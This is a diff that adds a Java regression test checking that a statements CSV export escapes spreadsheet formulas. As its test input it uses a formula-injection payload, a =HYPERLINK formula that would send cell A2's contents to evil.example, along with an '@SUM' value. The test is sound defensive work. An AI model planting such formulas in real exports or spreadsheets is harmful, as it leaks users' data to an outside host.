@@ -159,6 +159,21 @@ class HardeningRegressionTest {
         }
     }
 
+    @Test
+    void theStatementsExportNeutralisesSpreadsheetFormulas() {
+        assertThat(api.post("/api/v1/users", admin, "{\"email\":\"f@hardened.test\",\"name\":\"@SUM(1+1)\",\"team\":\"SALES\","
+                + "\"role\":\"MEMBER\",\"password\":\"a long password 1\"}").status()).isEqualTo(201);
+        String evil = "=HYPERLINK(\\\"http://evil.example/?leak=\\\"&A2,\\\"Click\\\")";
+        String id = api.post("/api/v1/incentives/plans", admin, PLAN.replace("\"Plan\"", "\"" + evil + "\"")).json().get("id").asText();
+        Response activated = api.post("/api/v1/incentives/plans/" + id + "/activate", admin, json("overrideReason", "test"));
+        assertThat(activated.status()).as(activated.body()).isEqualTo(200);
+        assertThat(api.post("/api/v1/incentives/periods/2025-Q1/close", admin, "").status()).isEqualTo(200);
+        Response csv = api.get("/api/v1/incentives/statements.csv?period=2025-Q1", admin);
+        assertThat(csv.status()).as(csv.body()).isEqualTo(200);
+        assertThat(csv.body()).contains("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"Click\"\")\"").contains(",'@SUM(1+1),")
+                .doesNotContain(",=HYPERLINK").doesNotContain(",\"=HYPERLINK").doesNotContain(",@SUM");
+    }
+
     private static void assertProblem(Response response, int status) {
         assertThat(response.status()).as(response.body()).isEqualTo(status);
         assertThat(response.isProblem()).as("problem+json: " + response.contentType() + " " + response.body()).isTrue();
